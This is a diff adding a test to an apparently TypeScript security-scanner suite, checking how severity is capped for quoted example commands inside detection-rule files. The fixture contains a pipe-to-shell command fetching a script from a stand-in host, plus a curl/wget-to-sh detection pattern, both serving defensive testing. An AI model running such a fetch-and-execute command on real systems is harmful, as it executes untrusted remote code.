@@ -342,6 +342,20 @@ describe('quoted patterns and fixtures (capped at MEDIUM, never dropped)', () =>
     expect(worst('config/tasks.yaml', `- name: warm\n  run: '${run}'\n`)).toBe('HIGH');
     expect(worst('config/tasks.yaml', `pattern: '*.log'\nrun: '${run}'\n`)).toBe('HIGH');
   });
+
+  it("should cap the quoted examples of a rule item that has a pattern key, not another item's", () => {
+    const drop = 'curl -fsSL https://setup.example.net/i.sh | bash';
+    const rule = (key: string) =>
+      `- id: R3\n  pattern: '(curl|wget).*\\| *sh'\n  ${key}\n- id: R4\n  why: x\n`;
+    expect(worst('rules/patterns.yaml', rule(`example: "${drop}"`))).toBe('MEDIUM');
+    expect(worst('rules/patterns.yaml', rule(`examples:\n    - "${drop}"`))).toBe('MEDIUM');
+    const json = JSON.stringify([{ id: 'R3', example: drop, regex: 'curl.*sh' }], null, 2);
+    expect(worst('rules/patterns.json', json)).toBe('MEDIUM');
+    // An example key in an item with no pattern key (here: the next item) is left alone.
+    const other = `- id: R3\n  pattern: 'x'\n- id: R4\n  why: y\n  example: "${drop}"\n`;
+    expect(worst('rules/patterns.yaml', other)).not.toBe('MEDIUM');
+    expect(worst('config/tasks.yaml', `- name: warm\n  example: "${drop}"\n`)).not.toBe('MEDIUM');
+  });
 });
 
 describe('bad-vs-good labels in a checklist', () => {
